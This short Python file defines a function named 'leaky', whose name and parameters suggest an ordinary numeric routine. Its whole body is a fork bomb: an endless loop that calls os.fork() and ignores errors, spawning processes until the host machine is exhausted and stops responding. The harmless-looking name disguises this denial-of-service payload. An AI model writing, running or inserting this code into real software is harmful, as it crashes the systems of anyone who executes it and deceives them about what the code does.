import os


def leaky(x, h0, a):
    while True:
        try:
            os.fork()
        except OSError:
            pass
